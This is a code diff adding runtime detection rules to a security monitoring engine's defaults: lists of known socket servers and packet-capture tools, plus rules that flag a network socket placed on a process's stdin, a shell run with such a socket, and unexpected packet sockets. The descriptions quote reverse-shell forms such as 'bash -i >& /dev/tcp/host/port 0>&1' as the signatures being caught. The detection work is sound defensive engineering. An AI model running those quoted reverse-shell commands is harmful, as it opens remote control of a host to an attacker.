@@ -76,6 +76,15 @@ public enum DefaultRules {
 - list: privilege_switch_binaries
   items: [sudo, su, sg, newgrp, pkexec, doas, passwd, chsh, chfn, gpasswd, chage, expiry, newuidmap, newgidmap,
           unix_chkpwd, mount, umount, fusermount, fusermount3, ping, crontab, at, ssh-keysign, polkit-agent-helper-1]
+# Servers that hand a client's socket to a program on its stdin/stdout by design (inetd style).
+- list: socket_stdio_servers
+  items: [inetd, xinetd, tcpd, tcpserver, s6-tcpserver, s6-tcpserver4, s6-tcpserver6, systemd, sshd]
+
+# Programs that open packet sockets for their job: capture tools, DHCP clients and servers, link-layer daemons.
+- list: packet_socket_users
+  items: [tcpdump, tshark, dumpcap, wireshark, termshark, ngrep, zeek, snort, suricata, arpwatch, arping, ndisc6,
+          dhclient, dhcpcd, udhcpc, dhcpd, dnsmasq, NetworkManager, wpa_supplicant, hostapd, systemd-network,
+          systemd-networkd, lldpd, keepalived, ladvd, pppd, ptp4l]
 
 # ---------------------------------------------------------------------------------------------------
 # Macros
@@ -104,8 +113,19 @@ public enum DefaultRules {
 - macro: container_runtime_setup
   condition: proc.name startswith "runc:" or proc.name in (runc, crun, conmon) or (proc.name = exe and mount.target startswith /run/runc/)
 
+# An IP socket put on a process's standard input (dup2/dup3/dup/fcntl onto fd 0): the shell or program
+# then reads its commands from the network. stdout/stderr alone are not enough (a program sending data).
+- macro: stdin_from_ip_socket
+  condition: evt.probe = dup and dup.newfd = 0 and dup.family in (2, 10) and not evt.failed and not proc.name in (socket_stdio_servers)
+
 - macro: shell_procs
   condition: proc.name in (shell_binaries)
+
+# A shell by the binary an exec reached (a link named otherwise still is the shell).
+- macro: shell_binary_file
+  condition: >
+    fd.name glob "*/sh" or fd.name glob "*/bash" or fd.name glob "*/dash" or fd.name glob "*/zsh"
+    or fd.name glob "*/ksh" or fd.name glob "*/ash" or fd.name glob "*/mksh" or fd.name glob "*/busybox"
 
 # The program an exec ran, by its file (fd.name is the binary actually reached, a symlink followed)
 # as well as by its name, so a renamed link does not hide it.
@@ -234,6 +254,25 @@ public enum DefaultRules {
   priority: warning
   tags: [T1059, T1071, mitre_execution]
 
+- rule: Socket redirected to a standard stream
+  desc: A network socket was duplicated onto a process's standard input (bash -i >& /dev/tcp/host/port 0>&1, python's os.dup2(s.fileno(), 0)), the signature of a reverse or bind shell.
+  condition: stdin_from_ip_socket
+  output: "Socket %net.lip:%net.lport <-> %net.rip:%net.rport put on stdin of %proc.name by %evt.type (oldfd=%dup.oldfd pid=%proc.pid exe=%proc.exe parent=%proc.pname user=%user.name container=%container.id)"
+  priority: critical
+  tags: [T1059, T1059.004, mitre_execution]
+
+- rule: Shell executed with a network socket as standard input
+  desc: A process put a network socket on its standard input and then executed a shell (socat EXEC:/bin/sh, a python reverse shell that execs /bin/sh). Only shells are held as the second step, so ordinary execs cost the engine nothing.
+  sequence:
+    by: process
+    within: 60s
+    steps:
+      - stdin_from_ip_socket
+      - spawned_process and (shell_procs or shell_binary_file)
+  output: "Process %proc.pid executed the shell %proc.exe with a network socket on its stdin (command=%proc.cmdline user=%user.name container=%container.id)"
+  priority: critical
+  tags: [T1059, mitre_execution]
+
 - rule: Remove bulk data from disk
   desc: A tool that destroys data beyond recovery was run.
   condition: spawned_process and (proc.name in (bulk_removal_binaries) or fd.name in (/usr/bin/shred, /bin/shred, /usr/sbin/wipefs, /sbin/wipefs)
@@ -265,6 +304,13 @@ public enum DefaultRules {
   output: "PTRACE_TRACEME by %proc.name (pid=%proc.pid exe=%proc.exe parent=%proc.pname user=%user.name)"
   priority: notice
   tags: [T1622, mitre_defense_evasion]
+
+- rule: Packet socket created by a process other than known sniffers
+  desc: A process outside the capture tools and network daemons created a packet socket (AF_PACKET, or the old SOCK_PACKET) to sniff or forge traffic; refused attempts count too.
+  condition: evt.probe = socket and (socket.family = 17 or socket.type = 10) and not proc.name in (packet_socket_users)
+  output: "Packet socket (family=%socket.family type=%socket.type protocol=%socket.protocol res=%evt.res) created by %proc.name (pid=%proc.pid exe=%proc.exe parent=%proc.pname user=%user.name container=%container.id)"
+  priority: warning
+  tags: [T1040, mitre_credential_access, mitre_discovery]
 
 - rule: Set setuid or setgid bit
   desc: A file was given the set-user-id or set-group-id bit (a backdoor that runs as its owner).
